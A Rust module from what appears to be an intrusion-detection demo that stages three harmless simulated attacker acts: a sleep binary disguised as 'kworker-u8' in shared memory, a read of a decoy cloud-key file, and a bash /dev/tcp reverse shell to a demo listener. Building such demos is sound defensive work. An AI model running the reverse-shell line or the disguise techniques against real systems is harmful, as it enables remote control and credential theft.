//! The three acts of the demo's attack: what an intruder does in its first minute, and nothing that hurts.

use super::stage::Stage;
use std::io;
use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// One thing that the attacker does.
#[derive(Clone, Debug)]
pub(super) struct Act {
    /// Its name in JSON.
    pub(super) id: &'static str,
    /// What it is, for people.
    pub(super) title: &'static str,
    /// What a person would type for it.
    pub(super) told: String,
    /// What is run.
    pub(super) argv: Vec<String>,
    /// Whether it calls the attacker.
    pub(super) calls: bool,
}

/// Longer than any demo: what still runs then was not contained.
const FOR: &str = "300";

/// All of them; `at` is the attacker's listener. Puts the dropper in its place.
pub(super) fn acts(stage: &Stage, at: SocketAddr) -> io::Result<Vec<Act>> {
    let dropper = stage.shm.join("kworker-u8");
    std::fs::copy(program("sleep")?, &dropper)?;
    std::fs::set_permissions(&dropper, std::fs::Permissions::from_mode(0o755))?;
    let text = |path: &Path| path.display().to_string();
    let (dropper, decoy) = (text(&dropper), text(&stage.decoy));
    Ok(vec![
        Act {
            id: "dropper",
            title: "a dropper runs from shared memory, where it leaves no trace on disk",
            told: format!("{dropper} {FOR}"),
            argv: vec![dropper, FOR.into()],
            calls: false,
        },
        Act {
            id: "credentials",
            title: "a stranger reads somebody's cloud keys (a decoy)",
            told: format!("sh -c 'exec 3<{decoy}; …'"),
            argv: vec!["/bin/sh".into(), "-c".into(), format!("exec 3<\"$0\"; sleep {FOR}; :"), decoy],
            calls: false,
        },
        shell(at)?,
    ])
}

/// With bash, as attackers write it; without, the demo's own binary calls and becomes a shell.
fn shell(at: SocketAddr) -> io::Result<Act> {
    let (id, title) = ("reverse-shell", "a reverse shell calls the attacker, who starts to type");
    Ok(match program("bash") {
        Ok(bash) => {
            let line = format!("exec bash -i >& /dev/tcp/{}/{} 0>&1", at.ip(), at.port());
            Act {
                id,
                title,
                told: format!("bash -c '{line}'"),
                argv: vec![bash.display().to_string(), "-c".into(), line],
                calls: true,
            }
        }
        Err(_) => Act {
            id,
            title,
            told: format!("sh -i, on a socket to {at}"),
            argv: vec![
                std::env::current_exe()?.display().to_string(),
                super::actor::COMMAND.into(),
                "dial".into(),
                at.to_string(),
            ],
            calls: true,
        },
    })
}

fn program(name: &str) -> io::Result<PathBuf> {
    ["/usr/bin", "/bin"]
        .iter()
        .map(|dir| Path::new(dir).join(name))
        .find(|path| path.is_file())
        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, format!("there is no `{name}` in /usr/bin or /bin")))
}
